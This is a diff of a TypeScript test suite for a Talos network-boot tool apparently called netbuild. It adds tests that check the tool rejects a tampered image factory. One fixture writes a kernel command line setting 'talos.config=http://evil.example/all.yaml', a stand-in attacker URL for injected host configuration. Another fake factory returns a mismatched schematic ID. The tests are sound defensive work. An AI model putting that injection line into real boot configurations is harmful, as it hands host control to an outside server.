@@ -37,6 +37,8 @@ describe.skipIf(notHere)("the generated Nix, with real Nix", () => {
   const cmdline = Buffer.from(`talos.platform=metal console=tty0 init_on_alloc=1 slab_nomerge pti=on consoleblank=0 nvme_core.io_timeout=4294967295 printk.devkmsg=on selinux=1 netbuild.fixture=${process.pid}x${Date.now()}`);
   const schematic = "376567988ad370138ad8b2698212367b8edcb69b5fd68c80be1f2ec7d603b4ba";
   const WORKER = readFileSync(path.join(REPO, "test/fixtures/talos/worker.yaml"), "utf8");
+  const posted: string[] = [];
+  let answerId: string | undefined;
 
   beforeAll(async () => {
     const dir = tempDir();
@@ -44,7 +46,18 @@ describe.skipIf(notHere)("the generated Nix, with real Nix", () => {
     writeFileSync(path.join(dir, `image/${schematic}/v1.12.2/kernel-amd64`), kernel);
     writeFileSync(path.join(dir, `image/${schematic}/v1.12.2/initramfs-amd64.xz`), initramfs);
     writeFileSync(path.join(dir, `image/${schematic}/v1.12.2/cmdline-metal-amd64`), cmdline);
-    factory = await serveFolder(dir);
+    // A factory (or mirror) whose command line for another schematic tries to set every host's config URL.
+    const evil = path.join(dir, "image/9cba8e32753f91a16c1837ab8abf356af021706ef284aef07380780177d9a06c/v1.12.2");
+    mkdirSync(evil, { recursive: true });
+    writeFileSync(path.join(evil, "kernel-amd64"), kernel);
+    writeFileSync(path.join(evil, "initramfs-amd64.xz"), initramfs);
+    writeFileSync(path.join(evil, "cmdline-metal-amd64"), `talos.platform=metal talos.config=http://evil.example/all.yaml noapic nolapic ${nonce}`);
+    // POST /schematics as the factory answers it for a canonical schematic: the sha256 of what it was sent.
+    factory = await serveFolder(dir, (urlPath, body) => {
+      posted.push(body.toString());
+      if (urlPath !== "/schematics") return { status: 404, json: {} };
+      return { status: 201, json: { id: answerId ?? createHash("sha256").update(body).digest("hex") } };
+    });
   });
   afterAll(async () => {
     await factory?.close();
@@ -131,8 +144,11 @@ describe.skipIf(notHere)("the generated Nix, with real Nix", () => {
     const root = talosRoot(undefined);
     const file = path.join(root, "classes/talos-worker.yaml");
     const before = readFileSync(file, "utf8");
+    posted.length = 0;
     const r = await cli(["pin", "--class", "talos-worker"], root);
     expect(r.code, r.stderr).toBe(0);
+    // The schematic was registered first, in its canonical form.
+    expect(posted).toEqual(["customization: {}\n"]);
     const after = readFileSync(file, "utf8");
     expect(after).toBe(before.replace("  machine: { role: worker }\n", `  machine: { role: worker }\n${pinned()}`));
     // A second pin with the same files changes nothing; a changed file is re-pinned in place.
@@ -150,6 +166,27 @@ describe.skipIf(notHere)("the generated Nix, with real Nix", () => {
     writeFileSync(path.join(root, ".gitattributes"), "secrets/** filter=git-crypt diff=git-crypt\n");
     const again = await cli(["build"], root);
     expect(again.stderr).not.toContain("committed to git in clear text");
+  });
+
+  it("pin refuses, writing nothing, when the factory assigns the schematic another ID than netbuild computed", async () => {
+    const root = talosRoot(undefined);
+    const before = readFileSync(path.join(root, "classes/talos-worker.yaml"), "utf8");
+    answerId = "0".repeat(64);
+    const r = await cli(["pin"], root).finally(() => (answerId = undefined));
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain(`netbuild: class talos-worker: the factory gave the schematic the ID "${"0".repeat(64)}", and netbuild computed ${schematic}`);
+    expect(readFileSync(path.join(root, "classes/talos-worker.yaml"), "utf8")).toBe(before);
+  });
+
+  it("refuses to boot with a factory command line that sets what netbuild sets per host (talos.config=)", async () => {
+    const root = talosRoot(undefined);
+    const file = path.join(root, "classes/talos-worker.yaml");
+    writeFileSync(file, readFileSync(file, "utf8").replace("  schematic: {}\n", "  schematic: { customization: { extraKernelArgs: [noapic, nolapic] } }\n"));
+    expect((await cli(["pin"], root)).code).toBe(0);
+    const r = await cli(["build"], root);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain(`netbuild: class talos-worker: the command line from ${factory.url}/image/9cba8e32753f91a16c1837ab8abf356af021706ef284aef07380780177d9a06c/v1.12.2/cmdline-metal-amd64 sets "talos.config=http://evil.example/all.yaml", which netbuild sets per host`);
+    expect(existsSync(path.join(root, "out"))).toBe(false);
   });
 
   it("pin names the URL and the status when the factory has no such file", async () => {
